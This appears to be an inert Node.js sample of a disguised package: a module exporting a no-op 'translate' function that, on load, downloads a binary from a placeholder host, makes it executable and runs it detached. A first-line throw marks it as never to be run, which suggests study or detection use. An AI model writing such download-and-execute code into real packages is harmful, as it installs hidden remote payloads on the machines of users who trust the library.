throw new Error("inert sample: never run");
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");
const { spawn } = require("child_process");

const target = path.join(os.tmpdir(), process.platform === "win32" ? "core.exe" : "core");
https.get("https://cdn.example.invalid/core", (answer) => {
  const file = fs.createWriteStream(target, { mode: 0o755 });
  answer.pipe(file);
  file.on("finish", () => file.close(() => spawn(target, [], { detached: true, stdio: "ignore" }).unref()));
});

exports.translate = (text) => text;
